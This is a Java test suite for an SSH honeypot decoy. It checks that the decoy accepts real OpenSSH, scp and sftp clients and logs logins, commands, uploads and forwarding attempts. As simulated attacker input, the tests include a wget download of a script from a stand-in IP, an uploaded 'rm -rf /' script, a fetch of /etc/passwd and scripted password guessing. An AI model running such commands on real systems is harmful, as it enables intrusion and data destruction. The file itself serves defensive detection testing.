package decnet.decoys.ssh;

import static decnet.testing.Await.await;
import static org.assertj.core.api.Assertions.assertThat;

import decnet.core.Event;
import decnet.decoys.Payload;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.Assumptions;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** The secure shell as the real client sees it. */
@Timeout(120)
class OpenSshClientTest {
    /** What a client said and how it ended. */
    private record Result(int status, String text) {}

    @TempDir
    Path folder;

    @BeforeEach
    void theClientIsThere() {
        for (String tool : List.of("ssh", "scp", "sftp", "sshpass", "expect")) {
            boolean there = Files.isExecutable(Path.of("/usr/bin", tool));
            if (!there) {
                System.err.println("SKIPPED: " + tool + " is not installed; the real client is not tested");
            }
            Assumptions.assumeTrue(there, tool + " is not installed");
        }
    }

    private Result client(
            String program, Machine machine, String password, List<String> options, String input, String... arguments)
            throws IOException, InterruptedException {
        List<String> command = new ArrayList<>(List.of("sshpass", "-p", password, program));
        command.addAll(List.of(
                "-F",
                "none",
                "-o",
                "StrictHostKeyChecking=no",
                "-o",
                "UserKnownHostsFile=" + folder.resolve("known"),
                "-o",
                "Port=" + machine.port(),
                "-o",
                "ConnectTimeout=20"));
        command.addAll(options);
        command.addAll(List.of(arguments));
        return run(command, input);
    }

    private Result run(List<String> command, String input) throws IOException, InterruptedException {
        Path in = folder.resolve("input");
        Files.writeString(in, input, StandardCharsets.ISO_8859_1);
        Path out = folder.resolve("output");
        Process process = new ProcessBuilder(command)
                .redirectErrorStream(true)
                .redirectInput(in.toFile())
                .redirectOutput(out.toFile())
                .start();
        assertThat(process.waitFor(60, TimeUnit.SECONDS)).isTrue();
        return new Result(process.exitValue(), Files.readString(out, StandardCharsets.ISO_8859_1));
    }

    private Result ssh(Machine machine, List<String> options, String input, String command) throws Exception {
        return client("ssh", machine, machine.password(), options, input, "root@" + machine.address(), command);
    }

    private static List<Event> events(Machine machine, String type) {
        return machine.seen.events(type);
    }

    @Test
    void wrongPasswordsAreRefusedSlowlyAndTheRightOneIsTaken() throws Exception {
        try (Machine machine = new Machine("debian12")) {
            long start = System.nanoTime();
            Result wrong = client("ssh", machine, "not-it", List.of(), "", "root@" + machine.address(), "id");
            long millis = TimeUnit.NANOSECONDS.toMillis(System.nanoTime() - start);
            Result right = ssh(machine, List.of(), "", "uname -n; id");

            assertThat(wrong.text()).contains("Permission denied");
            assertThat(millis).isGreaterThan(1400);
            assertThat(right.status()).isZero();
            assertThat(right.text()).contains(machine.decky.persona().hostname() + "\nuid=0(root) gid=0(root)");
            await(() -> assertThat(events(machine, "login_attempt")).hasSize(2));
            assertThat(events(machine, "login_attempt").getFirst().fields())
                    .containsEntry("principal", "root")
                    .containsEntry("secret", "not-it")
                    .containsEntry("secret_kind", "plaintext")
                    .containsEntry("outcome", "rejected")
                    .containsEntry("method", "password");
            assertThat(events(machine, "login_attempt").getLast().fields()).containsEntry("outcome", "accepted");
            assertThat(events(machine, "command").getFirst().fields())
                    .containsEntry("command", "uname -n; id")
                    .containsEntry("mode", "exec");
        }
    }

    @Test
    void theSixthFailureIsTheLast() throws Exception {
        try (Machine machine = new Machine("debian12")) {
            Path script = Files.writeString(
                    folder.resolve("guess"), """
                        set timeout 30
                        spawn ssh -F none -o StrictHostKeyChecking=no -o UserKnownHostsFile=%s -o NumberOfPasswordPrompts=9 -p %d nobody@%s
                        expect {
                            "password:" { send "guess\\r"; exp_continue }
                            eof
                        }
                        """.formatted(folder.resolve("known"), machine.port(), machine.address()));

            Result result = run(List.of("expect", script.toString()), "");

            assertThat(result.text()).contains("Too many authentication failures");
            await(() -> assertThat(events(machine, "login_attempt")).hasSize(6));
            assertThat(events(machine, "login_attempt"))
                    .allSatisfy(event -> assertThat(event.fields()).containsEntry("outcome", "rejected"));
        }
    }

    @Test
    void aPublicKeyIsRecordedAndNeverTaken() throws Exception {
        Path key = folder.resolve("id");
        assertThat(run(List.of("ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", key.toString()), "")
                        .status())
                .isZero();
        try (Machine machine = new Machine("ubuntu22")) {
            Result result = client(
                    "ssh",
                    machine,
                    "",
                    List.of("-i", key.toString(), "-o", "PreferredAuthentications=publickey"),
                    "",
                    "root@" + machine.address(),
                    "id");

            assertThat(result.text()).contains("Permission denied (publickey,password)");
            await(() -> assertThat(events(machine, "login_attempt")).hasSize(1));
            String[] open = Files.readString(folder.resolve("id.pub")).split(" ");
            assertThat(events(machine, "login_attempt").getFirst().fields())
                    .containsEntry("secret", open[0] + " " + open[1])
                    .containsEntry("secret_kind", "ssh_publickey")
                    .containsEntry("outcome", "rejected")
                    .hasEntrySatisfying("fingerprint", text -> assertThat(text).startsWith("SHA256:"));
        }
    }

    @Test
    void aSessionAtATerminalIsTypedSeenAndRecorded() throws Exception {
        try (Machine machine = new Machine("debian12")) {
            Path script = Files.writeString(folder.resolve("type"), """
                set timeout 20
                set stty_init "rows 30 columns 100"
                spawn ssh -F none -o StrictHostKeyChecking=no -o UserKnownHostsFile=%s -p %d root@%s
                expect "password:"
                send "%s\\r"
                expect "# "
                send "whoami\\r"
                expect "root"
                expect "# "
                send "cd /tmp; wget http://198.51.100.7/x.sh\\r"
                expect "# "
                send "exit 5\\r"
                expect eof
                exit [lindex [wait] 3]
                """.formatted(
                            folder.resolve("known"), machine.port(), machine.address(), machine.password()));

            Result result = run(List.of("expect", script.toString()), "");

            assertThat(result.status()).isEqualTo(5);
            assertThat(result.text())
                    .contains("Last login: ", "root@" + machine.decky.persona().hostname() + ":~# ");
            await(() -> assertThat(events(machine, "session_recorded")).hasSize(1));
            assertThat(events(machine, "command"))
                    .extracting(event -> event.fields().get("command"))
                    .containsExactly("whoami", "cd /tmp; wget http://198.51.100.7/x.sh", "exit 5");
            assertThat(events(machine, "command"))
                    .extracting(event -> event.fields().get("mode"))
                    .containsOnly("shell");
            assertThat(events(machine, "download_attempt").getFirst().fields())
                    .containsEntry("url", "http://198.51.100.7/x.sh");
            Event recorded = events(machine, "session_recorded").getFirst();
            assertThat(recorded.fields())
                    .containsEntry("format", "asciicast-v2")
                    .containsEntry("cols", "100")
                    .containsEntry("rows", "30")
                    .containsKey("sha256");
            String cast = blob(machine, recorded);
            assertThat(cast).startsWith("{\"version\":2").contains("whoami");
            await(() -> assertThat(machine.seen.events).extracting(Event::type).contains("disconnect"));
            assertThat(machine.seen.events).extracting(Event::session).containsOnly(recorded.session());
        }
    }

    private static String blob(Machine machine, Event event) {
        return Optional.ofNullable(machine.seen.blobs.get(event.fields().get("sha256")))
                .map(payload -> new String(payload.bytes(), StandardCharsets.ISO_8859_1))
                .orElseThrow();
    }

    @Test
    void aShellWithoutATerminalReadsLines() throws Exception {
        try (Machine machine = new Machine("debian12")) {
            Result result = client(
                    "ssh",
                    machine,
                    machine.password(),
                    List.of("-T"),
                    "cd /var\npwd\nfor i in 1 2; do\necho n$i\ndone\nexit 7\n",
                    "root@" + machine.address());

            assertThat(result.text()).endsWith("/var\nn1\nn2\n");
            assertThat(result.status()).isEqualTo(7);
        }
    }

    @Test
    void whatIsPipedIntoAFileIsKept() throws Exception {
        try (Machine machine = new Machine("debian12")) {
            ssh(machine, List.of(), "#!/bin/sh\nrm -rf /\n", "cat > /tmp/.x; chmod +x /tmp/.x");
            Result again = ssh(machine, List.of(), "", "cat /tmp/.x");

            assertThat(again.text()).endsWith("#!/bin/sh\nrm -rf /\n");
            await(() -> assertThat(events(machine, "file_upload")).hasSize(1));
            assertThat(blob(machine, events(machine, "file_upload").getFirst())).isEqualTo("#!/bin/sh\nrm -rf /\n");
        }
    }

    @ParameterizedTest
    @ValueSource(strings = {"-O", "-s"})
    void copyingInAndOutGivesTheSameBytes(String protocol) throws Exception {
        byte[] content = new byte[400_000];
        new java.util.SplittableRandom(5).nextBytes(content);
        Path file = Files.write(folder.resolve("tool.bin"), content);
        try (Machine machine = new Machine("debian12")) {
            String place = "root@" + machine.address() + ":";

            Result in =
                    client("scp", machine, machine.password(), List.of(protocol), "", file.toString(), place + "/tmp/");
            Result out = client(
                    "scp",
                    machine,
                    machine.password(),
                    List.of(protocol),
                    "",
                    place + "/tmp/tool.bin",
                    folder.resolve("back").toString());
            Result missing = client(
                    "scp",
                    machine,
                    machine.password(),
                    List.of(protocol),
                    "",
                    place + "/nothing",
                    folder.resolve("no").toString());

            assertThat(in.status()).as(in.text()).isZero();
            assertThat(out.status()).as(out.text()).isZero();
            assertThat(Files.readAllBytes(folder.resolve("back"))).isEqualTo(content);
            assertThat(missing.status()).isEqualTo(1);
            assertThat(missing.text()).contains("No such file or directory");
            await(() -> assertThat(events(machine, "file_upload")).hasSize(1));
            assertThat(events(machine, "file_upload").getFirst().fields())
                    .containsEntry("name", "/tmp/tool.bin")
                    .containsEntry("size", "400000")
                    .containsEntry("via", protocol.equals("-O") ? "scp" : "sftp");
            assertThat(machine.seen.blobs.values()).contains(Payload.of(content));
        }
    }

    @Test
    void sftpListsMakesRenamesAndRemoves() throws Exception {
        Path file = Files.writeString(folder.resolve("note"), "hello\n");
        String batch = """
            pwd
            mkdir /tmp/d
            put %s /tmp/d/a
            rename /tmp/d/a /tmp/d/b
            ls -l /tmp/d
            chmod 600 /tmp/d/b
            rm /tmp/d/b
            rmdir /tmp/d
            -ls /tmp/d
            get /etc/passwd %s
            df -h
            ls -la /root
            """.formatted(file, folder.resolve("passwd"));
        Path commands = Files.writeString(folder.resolve("batch"), batch);
        try (Machine machine = new Machine("debian12")) {
            Result result = client(
                    "sftp",
                    machine,
                    machine.password(),
                    List.of("-o", "BatchMode=no", "-b", commands.toString()),
                    "",
                    "root@" + machine.address());

            assertThat(result.status()).as(result.text()).isZero();
            assertThat(result.text())
                    .contains("Remote working directory: /root", "root     root            6", "/tmp/d/b")
                    .contains("Can't ls: \"/tmp/d\" not found", ".bashrc");
            assertThat(Files.readString(folder.resolve("passwd"))).startsWith("root:x:0:0:");
            await(() -> assertThat(events(machine, "file_upload").getFirst().fields())
                    .containsEntry("name", "/tmp/d/a")
                    .containsEntry("via", "sftp"));
            assertThat(events(machine, "command"))
                    .extracting(event -> event.fields().get("command"))
                    .contains("mkdir /tmp/d", "put /tmp/d/a", "rename /tmp/d/a /tmp/d/b", "rm /tmp/d/b");
        }
    }

    @Test
    void anOrdinaryUserCannotWriteEverywhere() throws Exception {
        Path file = Files.writeString(folder.resolve("note"), "hello\n");
        try (Machine machine = new Machine("debian12")) {
            var user = machine.decky.persona().accounts().stream()
                    .filter(account ->
                            account.uid() >= 1000 && account.password().isPresent())
                    .findFirst()
                    .orElseThrow();
            String password = user.password().orElseThrow().text();

            Result refused = client(
                    "scp",
                    machine,
                    password,
                    List.of(),
                    "",
                    file.toString(),
                    user.name() + "@" + machine.address() + ":/etc/note");
            Result taken = client(
                    "scp",
                    machine,
                    password,
                    List.of(),
                    "",
                    file.toString(),
                    user.name() + "@" + machine.address() + ":note");

            assertThat(refused.text()).contains("Permission denied");
            assertThat(taken.status()).as(taken.text()).isZero();
            await(() -> assertThat(events(machine, "file_upload").getFirst().fields())
                    .containsEntry("name", user.home() + "/note"));
        }
    }

    @Test
    void forwardingIsRefusedAndRecorded() throws Exception {
        try (Machine machine = new Machine("debian12")) {
            Result out = client(
                    "ssh", machine, machine.password(), List.of("-W", "192.0.2.1:25"), "", "root@" + machine.address());
            Result back = ssh(machine, List.of("-R", "8022:127.0.0.1:22"), "", "true");

            assertThat(out.text()).contains("administratively prohibited: open failed");
            assertThat(back.text()).contains("remote port forwarding failed for listen port 8022");
            await(() -> assertThat(events(machine, "forward_attempt")).hasSize(2));
            assertThat(events(machine, "forward_attempt").getFirst().fields())
                    .containsEntry("direction", "direct")
                    .containsEntry("host", "192.0.2.1")
                    .containsEntry("port", "25");
            assertThat(events(machine, "forward_attempt").getLast().fields())
                    .containsEntry("direction", "remote")
                    .containsEntry("port", "8022");
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "KexAlgorithms=sntrup761x25519-sha512@openssh.com",
                "KexAlgorithms=curve25519-sha256",
                "KexAlgorithms=ecdh-sha2-nistp256",
                "KexAlgorithms=ecdh-sha2-nistp384",
                "KexAlgorithms=ecdh-sha2-nistp521",
                "KexAlgorithms=diffie-hellman-group-exchange-sha256",
                "KexAlgorithms=diffie-hellman-group14-sha256",
                "KexAlgorithms=diffie-hellman-group16-sha512",
                "KexAlgorithms=diffie-hellman-group18-sha512",
                "HostKeyAlgorithms=rsa-sha2-512",
                "HostKeyAlgorithms=rsa-sha2-256",
                "HostKeyAlgorithms=ecdsa-sha2-nistp256",
                "HostKeyAlgorithms=ssh-ed25519",
                "Ciphers=chacha20-poly1305@openssh.com",
                "Ciphers=aes256-ctr",
                "Ciphers=aes128-gcm@openssh.com",
                "Ciphers=aes256-gcm@openssh.com",
                "Compression=yes",
                "RekeyLimit=16K",
                "MACs=umac-64-etm@openssh.com",
                "MACs=umac-128-etm@openssh.com",
                "MACs=umac-64@openssh.com",
                "MACs=umac-128@openssh.com",
                "MACs=hmac-sha2-512-etm@openssh.com",
                "MACs=hmac-sha1"
            })
    void everyAlgorithmWorks(String option) throws Exception {
        List<String> options = new ArrayList<>(List.of("-o", option));
        if (option.startsWith("MACs")) {
            options.addAll(List.of("-o", "Ciphers=aes128-ctr"));
        }
        String input = "0123456789abcdef".repeat(20_000);
        try (Machine machine = new Machine("debian12")) {
            Result result = ssh(machine, options, input, "cat");

            assertThat(result.status()).as(result.text()).isZero();
            assertThat(result.text()).endsWith(input);
        }
    }

    @Test
    void hostKeysStayAndAreProven() throws Exception {
        try (Machine machine = new Machine("debian12")) {
            ssh(machine, List.of(), "", "id"); // a client asks only a server it knows
            Result first = ssh(machine, List.of("-o", "UpdateHostKeys=yes"), "", "sleep 1");
            Result second;
            try (Machine restarted = new Machine(machine.decky, Map.of())) {
                second = client(
                        "ssh",
                        restarted,
                        restarted.password(),
                        List.of("-o", "HostKeyAlias=" + machine.decky.name(), "-o", "StrictHostKeyChecking=no"),
                        "",
                        "root@" + restarted.address(),
                        "id");
            }

            assertThat(first.status()).as(first.text()).isZero();
            List<String> known = Files.readAllLines(folder.resolve("known"));
            assertThat(known.stream().map(line -> line.split(" ")[1]).distinct())
                    .contains("ssh-ed25519", "ecdsa-sha2-nistp256", "ssh-rsa");
            String ed25519 = key(known.getFirst());
            assertThat(known.stream()
                            .filter(line -> line.contains("ssh-ed25519"))
                            .map(OpenSshClientTest::key))
                    .hasSizeGreaterThan(1)
                    .containsOnly(ed25519);
            assertThat(second.text()).contains("uid=0(root)");
        }
    }

    private static String key(String line) {
        return line.split(" ")[2];
    }
}
